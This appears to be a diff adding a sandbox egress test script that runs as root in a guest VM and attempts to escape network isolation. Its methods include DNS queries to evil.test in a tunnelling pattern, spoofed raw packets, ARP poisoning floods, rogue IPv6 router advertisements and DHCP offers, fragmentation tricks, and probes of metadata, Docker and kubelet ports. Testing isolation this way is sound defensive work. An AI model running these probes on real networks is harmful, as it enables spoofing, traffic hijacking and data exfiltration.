@@ -1,0 +1,217 @@
+"""network.py PLACES: runs in the guest as root and tries to leave. PLACES is JSON: addresses and ports that must not be reached. Prints one JSON
+object: what each family of attempts saw. The judge is on the host: its canaries; what a guest calls "connected" is no proof of anything."""
+
+import errno
+import json
+import os
+import socket
+import struct
+import subprocess
+import sys
+import time
+
+places = json.loads(sys.argv[1])
+wanted = sys.argv[2].split(",")
+scale = int(sys.argv[3]) if len(sys.argv) > 3 else 1
+GATEWAY, GUEST, IFACE = "10.0.0.1", "10.0.0.2", "eth0"
+MINE, THEIRS = bytes.fromhex("025ace000002"), bytes.fromhex("025ace000001")
+result = {}
+
+
+def tcp(address, port, say=b"CANARY-ESCAPE", family=socket.AF_INET, wait=2.0):
+    try:
+        with socket.socket(family, socket.SOCK_STREAM) as s:
+            s.settimeout(wait)
+            s.connect((address, port))
+            s.sendall(say)
+            try:
+                return "answer " + repr(s.recv(100))
+            except OSError as error:
+                return "connected, " + type(error).__name__
+    except OSError as error:
+        return errno.errorcode.get(error.errno, type(error).__name__)
+
+
+def query(name, kind=1, server=GATEWAY, over_tcp=False, options=b""):
+    labels = b"".join(bytes([len(label)]) + label for label in name.encode("latin1").split(b".") if label) + b"\0"
+    message = os.urandom(2) + struct.pack(">5H", 256, 1, 0, 0, 1 if options else 0) + labels + struct.pack(">2H", kind, 1) + options
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_STREAM if over_tcp else socket.SOCK_DGRAM) as s:
+            s.settimeout(1.5)
+            s.connect((server, 53))
+            s.send(struct.pack(">H", len(message)) + message if over_tcp else message)
+            answer = s.recv(4096)
+            answer = answer[2:] if over_tcp else answer
+            return f"rcode {answer[3] & 15} answers {struct.unpack('>H', answer[6:8])[0]}" if len(answer) >= 12 else "short"
+    except OSError as error:
+        return errno.errorcode.get(error.errno, type(error).__name__)
+
+
+def frames(*contents):
+    with socket.socket(17, 3, 0) as s:
+        s.bind((IFACE, 0))
+        sent = 0
+        for content in contents:
+            try:
+                sent += s.send(content) > 0
+            except OSError:
+                pass
+        return sent
+
+
+def checksum(content):
+    total = sum(struct.unpack(f">{len(content) // 2}H", content + b"\0" * (len(content) % 2))) if len(content) % 2 == 0 else checksum(content + b"\0")
+    while total > 0xFFFF:
+        total = (total & 0xFFFF) + (total >> 16)
+    return total
+
+
+def ip(source, target, protocol, payload, flags=0, mac=MINE, ident=1):
+    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, flags, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
+    head = head[:10] + struct.pack(">H", 0xFFFF & ~checksum(head)) + head[12:]
+    return THEIRS + mac + b"\x08\x00" + head + payload
+
+
+def udp(source, target, port, say=b"CANARY-ESCAPE"):
+    return ip(source, target, 17, struct.pack(">HHHH", 40000, port, 8 + len(say), 0) + say)
+
+
+def syn(source, target, port, flags=2):
+    segment = struct.pack(">HHIIBBHHH", 40000, port, 1, 0, 0x50, flags, 8192, 0, 0)
+    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack(">BBH", 0, 6, len(segment))
+    return ip(source, target, 6, segment[:16] + struct.pack(">H", 0xFFFF & ~checksum(pseudo + segment)) + segment[18:])
+
+
+def a01():
+    return {f"{address}:{port}": tcp(address, port) for address, port in [*places["tcp"], ["1.1.1.1", 443], ["1.1.1.1", 80], ["192.0.2.1", 80]]}
+
+
+def a02():
+    seen, ports = {}, range(1, 65536) if scale > 1 else [*range(1, 1025, 16), 22, 25, 53, 123, 443, 853, 2375, 3128, 5432, 6379, 8080, 10250, 15001, 15053, 49983, 65535]
+    for port in ports:
+        with socket.socket() as s:
+            s.settimeout(1)
+            code = s.connect_ex(("1.1.1.1", port))
+            seen[errno.errorcode.get(code, str(code))] = seen.get(errno.errorcode.get(code, str(code)), 0) + 1
+    return seen
+
+
+def a03():
+    seen = {}
+    for i in range(200 if scale > 1 else 20):
+        answer = query(os.urandom(15).hex() + ".evil.test", 16)
+        seen[answer] = seen.get(answer, 0) + 1
+    return seen
+
+
+def a05():
+    return {f"{server} {'tcp' if over_tcp else 'udp'}": query("a.evil.test", 1, server, over_tcp) for server in ("8.8.8.8", "1.1.1.1", places["host"]) for over_tcp in (False, True)}
+
+
+def a06():
+    return {str(kind): query("allowed.test", kind) for kind in (1, 2, 5, 6, 12, 15, 16, 28, 33, 35, 43, 48, 52, 64, 65, 99, 255, 256, 65280)}
+
+
+def a07():
+    quic = subprocess.run(["curl", "-sm3", "--doh-url", "https://1.1.1.1/dns-query", "https://evil.test/"], capture_output=True).returncode
+    return {"853": tcp("1.1.1.1", 853), "doh": quic, "udp 853": frames(udp(GUEST, "1.1.1.1", 853)), "udp 443": frames(udp(GUEST, "1.1.1.1", 443))}
+
+
+def a09():
+    echo = bytes.fromhex("0800142400000000") + b"CANARY-ESCAPE!"
+    return {"frames": frames(*(ip(GUEST, address, 1, echo) for address in (places["host"], "1.1.1.1", "127.0.0.1", GATEWAY)))}
+
+
+def a10():
+    return {"frames": frames(*(ip(GUEST, address, protocol, b"CANARY-ESCAPE-" + bytes(50)) for protocol in (2, 4, 41, 47, 50, 51, 132, 136, 33, 255) for address in (places["host"], "1.1.1.1")))}
+
+
+def a11():
+    subprocess.run("ip -6 addr add fd00::2/64 dev eth0; ip -6 route replace default via fd00:5ace::1 dev eth0", shell=True, capture_output=True)
+    seen = {address: tcp(address, port, family=socket.AF_INET6) for address, port in (("2606:4700::1111", 80), ("fd00:5ace::1", 22), ("fe80::1", 80), ("::ffff:" + places["host"], places["tcp"][0][1]))}
+    subprocess.run("ip -6 addr del fd00::2/64 dev eth0", shell=True, capture_output=True)
+    return seen
+
+
+def a13():
+    spoofed = [frame for source in (places["host"], "10.0.0.1", "127.0.0.1", "10.0.0.3", "1.2.3.4") for address, port in places["tcp"] for frame in (syn(source, address, port), udp(source, address, port))]
+    other_mac = [ip(GUEST, places["host"], 17, bytes(20), mac=mac) for mac in (bytes.fromhex("025ace000001"), bytes.fromhex("ffffffffffff"), os.urandom(6))]
+    return {"frames": frames(*spoofed, *other_mac)}
+
+
+def a14():
+    def arp(sender_mac, sender, target, operation=2):
+        return b"\xff" * 6 + MINE + b"\x08\x06" + struct.pack(">HHBBH6s4s6s4s", 1, 0x800, 6, 4, operation, sender_mac, socket.inet_aton(sender), b"\xff" * 6, socket.inet_aton(target))
+    made = [arp(MINE, GATEWAY, GATEWAY), arp(b"\xff" * 6, GATEWAY, GUEST)] + [arp(os.urandom(6), f"10.{i % 200}.{i // 256 % 256}.{i % 256}", GATEWAY) for i in range(100000 if scale > 1 else 500)]
+    return {"frames": frames(*made), "afterwards": tcp(GATEWAY, 22)}
+
+
+def a15():
+    advert = bytes.fromhex("86000000400807080000000000000000") + bytes.fromhex("030440c0000070800000708000000000") + socket.inet_pton(socket.AF_INET6, "2001:db8::")
+    v6 = struct.pack(">IHBB", 6 << 28, len(advert), 58, 255) + socket.inet_pton(socket.AF_INET6, "fe80::5ace:2") + socket.inet_pton(socket.AF_INET6, "ff02::1")
+    offer = b"\x02\x01\x06\x00" + bytes(240)
+    return {"frames": frames(bytes.fromhex("333300000001") + MINE + b"\x86\xdd" + v6 + advert, ip("10.0.0.2", "255.255.255.255", 17, struct.pack(">HHHH", 67, 68, 8 + len(offer), 0) + offer))}
+
+
+def a17():
+    open_ports = [port for port in (range(1, 65536) if scale > 1 else [*range(1, 200), 443, 2375, 6060, 8000, 8080, 8443, 9090, 9100, 15001, 15053, 49983]) if knock(port)]
+    talk = {}
+    for port in open_ports[:6]:
+        for what in (b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b'{"method":"list"}\n'):
+            talk[f"{port} {what[:12]!r}"] = tcp(GATEWAY, port, what)
+    return {"connected": len(open_ports), "talk": talk}
+
+
+def knock(port):
+    with socket.socket() as s:
+        s.settimeout(1)
+        return s.connect_ex((GATEWAY, port)) == 0
+
+
+def a18():
+    return {f"{address}:{port}": tcp(address, port, wait=1) for address in (places["host"], "10.0.0.1", "172.17.0.1", "192.168.0.1", "169.254.169.254", "127.0.0.1") for port in (22, 80, 2375, 5432, 7777, 8080, 10250)}
+
+
+def a19():
+    seen = {f"{address}:{port}": tcp(address, port, wait=1) for address in ("10.0.0.3", "10.0.0.6", "10.0.1.2", "10.255.255.255") for port in (8080, 49983)}
+    seen["frames"] = frames(udp(GUEST, "224.0.0.251", 5353), udp(GUEST, "239.255.255.250", 1900), b"\xff" * 6 + udp(GUEST, "255.255.255.255", 8080)[6:])
+    return seen
+
+
+def a21():
+    made = []
+    for address, port in places["tcp"]:
+        payload = struct.pack(">HHHH", 40000, port, 100, 0) + b"CANARY-ESCAPE" * 8
+        made += [ip(GUEST, address, 17, payload[:8], 0x2000), ip(GUEST, address, 17, payload[8:24], 1), ip(GUEST, address, 17, payload[:24], 0x2000, ident=2), ip(GUEST, address, 17, payload[8:], 1, ident=2), ip(GUEST, address, 17, bytes(64), 0x1FFF)]
+        made += [syn(GUEST, address, port, flags) for flags in (3, 0x29, 0, 0x3F, 6)]
+    return {"frames": frames(*made)}
+
+
+def a22():
+    made = [b"\xff" * 6 + MINE + kind + bytes(60) for kind in (b"\x81\x00", b"\x88\xa8", b"\x88\xcc", b"\x88\x47", b"\x88\x63", b"\x00\x26", b"\x88\x8e")]
+    made += [MINE, b"\x01\x80\xc2\x00\x00\x00" + MINE + b"\x00\x26" + bytes(38), THEIRS + b"\x01" + MINE[1:] + b"\x08\x00" + bytes(40), THEIRS + MINE + b"\x08\x00" + bytes(1486)]
+    return {"frames": frames(*made)}
+
+
+def a27():
+    def median(name):
+        times = []
+        for _ in range(9):
+            begun = time.monotonic()
+            query(name)
+            times.append(time.monotonic() - begun)
+        return round(sorted(times)[4] * 1000, 2)
+    return {name: median(name) for name in ("one.evil.test", "localhost", "nothing.invalid", "example.org")}
+
+
+for name in wanted:
+    try:
+        result[name] = globals()[name]()
+    except Exception as error:
+        result[name] = {"error": repr(error)}
+result["own listener"] = None
+server = socket.socket()
+server.bind(("127.0.0.1", 0))
+server.listen(1)
+result["control"] = tcp("127.0.0.1", server.getsockname()[1], wait=0.5)
+print(json.dumps(result))
